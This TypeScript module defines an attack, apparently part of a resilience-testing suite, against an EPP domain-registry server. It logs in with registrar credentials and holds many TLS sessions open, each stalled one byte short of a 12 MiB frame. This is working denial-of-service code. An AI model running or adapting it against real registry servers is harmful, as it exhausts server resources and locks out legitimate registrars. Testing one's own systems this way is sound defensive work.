import { framed } from '../epp.ts';
import type { Attack } from './attack.ts';
import { loginOf, SESSIONS } from './epp-sessions.ts';
import { holdOpen, openSecure } from './raw-connection.ts';

const REOPEN_AFTER_MS = 1_000;
const ALL_BUT_THE_END = framed(' '.repeat(12 * 1024 * 1024 - 4)).subarray(0, -1);

/** All sessions that eight registrars may have send a frame of 12 MiB, and not its last byte. */
export const eppUnfinishedFrames: Attack = {
  name: 'EPP unfinished frames',
  start: ({ eppPort = 0, credentials: { others = [] } = {} }) => {
    const logins = others.map((authorization) => framed(loginOf(authorization)));
    return holdOpen(
      SESSIONS * logins.length,
      (index) => {
        const socket = openSecure(eppPort);
        let answers = 0;
        socket.on('data', () => {
          answers += 1;
          if (answers === 1) socket.write(logins[index % logins.length] ?? '');
          if (answers === 2) socket.write(ALL_BUT_THE_END);
        });
        return socket;
      },
      REOPEN_AFTER_MS,
    );
  },
};
